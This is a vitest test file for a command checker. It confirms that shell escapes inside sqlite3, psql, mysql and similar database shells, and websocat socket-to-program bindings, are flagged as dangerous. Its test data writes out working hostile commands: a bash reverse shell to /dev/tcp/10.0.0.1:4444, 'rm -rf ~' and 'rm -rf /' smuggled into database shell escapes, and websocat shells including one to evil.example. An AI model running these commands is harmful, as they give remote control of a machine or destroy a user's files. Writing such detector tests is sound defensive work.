import { beforeAll, describe, expect, it } from "vitest";
import { deriver, judge, type Deriver } from "./ops.ts";

let d: Deriver;
beforeAll(async () => {
  d = await deriver();
});

/** Database shells' shell escapes and websocat's program addresses run commands (docs/adr/0307). */
describe("a shell escape inside a database shell is the command it runs", () => {
  it.each([
    ["sqlite3 /dev/null '.shell bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"],
    ["sqlite3 db.sqlite '.system rm -rf ~'", "rm -rf ~"],
    ["sqlite3 -cmd '.shell rm -rf ~' app.db", "rm -rf ~"],
    ["duckdb x.db '.shell rm -rf ~'", "rm -rf ~"],
    ["psql -c '\\! rm -rf ~'", "rm -rf ~"],
    ["psql --command='\\!rm -rf ~'", "rm -rf ~"],
    ["mysql -e 'system rm -rf /'", "rm -rf /"],
    ["mariadb --execute='\\! rm -rf ~'", "rm -rf ~"],
  ])("%s is judged as %s", (command, inner) => {
    const hit = judge(d.bash(command));
    expect(hit?.check).toBeDefined();
    expect(hit?.check).toBe(judge(d.bash(inner))?.check);
  });

  it.each([
    "sqlite3 app.db .tables",
    "sqlite3 db.sqlite 'select * from users'",
    "psql -c 'select 1'",
    "mysql -e 'show tables'",
  ])("%s stays ordinary", (command) => {
    expect(judge(d.bash(command))).toBeNull();
  });
});

describe("websocat joining a program to a socket is a reverse or bind shell", () => {
  it.each([
    "websocat -b tcp-l:0.0.0.0:4444 sh-c:bash",
    "websocat --binary ws-l:0.0.0.0:8080 exec:/bin/sh",
    "websocat ws://evil.example:9/ 'sh-c:bash -i'",
    "websocat -E tcp:10.0.0.1:4444 cmd:sh",
  ])("%s", (command) => {
    expect(judge(d.bash(command))?.check).toBe("reverse-shell");
  });

  it.each(["websocat ws://localhost:8080/ws", "websocat -s 8080"])("%s stays ordinary", (command) => {
    expect(judge(d.bash(command))).toBeNull();
  });
});
